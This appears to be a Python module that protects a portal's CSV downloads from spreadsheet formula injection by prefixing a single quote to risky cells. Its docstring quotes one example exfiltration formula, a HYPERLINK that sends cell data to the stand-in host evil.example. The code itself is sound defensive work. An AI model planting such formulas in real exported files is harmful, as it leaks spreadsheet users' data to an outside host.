"""CSV downloads that are safe to open in a spreadsheet (CSV / formula injection).

A cell such as ``=HYPERLINK("http://evil.example?"&A1, "click")`` in a rejected row or
in a user's name is a live formula once a CSV download is opened in Excel or
LibreOffice. Every CSV the portal serves to a browser goes through ``safe_cell``:
a text cell that starts with ``=``, ``+``, ``-``, ``@``, a tab or a carriage return
gets a leading single quote, the OWASP recommendation, so the spreadsheet shows it
as text. Plain numbers (``-3.70``, ``+1e5``) are left alone: they cannot run anything
and negative coordinates stay numbers.

Only downloads are changed. Published releases are served byte for byte (their
checksums are recorded in the lineage), and the files on disk are never rewritten.
"""

from __future__ import annotations

import csv
import io
import re
from collections.abc import Iterable, Iterator
from pathlib import Path
from typing import Any

FORMULA_PREFIXES = ("=", "+", "-", "@", "\t", "\r")
_PLAIN_NUMBER = re.compile(r"[+-]?(\d+\.?\d*|\.\d+)([eE][+-]?\d+)?")
ROWS_PER_CHUNK = 500


def safe_cell(value: Any) -> Any:
    """Return ``value`` with a leading ``'`` when a spreadsheet would read it as a formula.

    Args:
        value: one cell; only strings are changed.

    Returns:
        The cell, neutralised when it starts with ``=``, ``+``, ``-``, ``@``, tab or CR
        and is not a plain number.
    """
    if (isinstance(value, str) and value.startswith(FORMULA_PREFIXES)
            and not _PLAIN_NUMBER.fullmatch(value)):
        return "'" + value
    return value


def csv_chunks(rows: Iterable[Iterable[Any]]) -> Iterator[str]:
    """Write ``rows`` as CSV with every cell passed through ``safe_cell``, in text chunks."""
    buffer = io.StringIO()
    writer = csv.writer(buffer)
    for count, row in enumerate(rows, start=1):
        writer.writerow([safe_cell(cell) for cell in row])
        if count % ROWS_PER_CHUNK == 0:
            yield buffer.getvalue()
            buffer.seek(0)
            buffer.truncate()
    yield buffer.getvalue()


def safe_csv_file(path: Path) -> Iterator[str]:
    """Stream a CSV file on disk as a neutralised download (the file is not changed)."""
    with open(path, encoding="utf-8", errors="replace", newline="") as handle:
        yield from csv_chunks(csv.reader(handle))
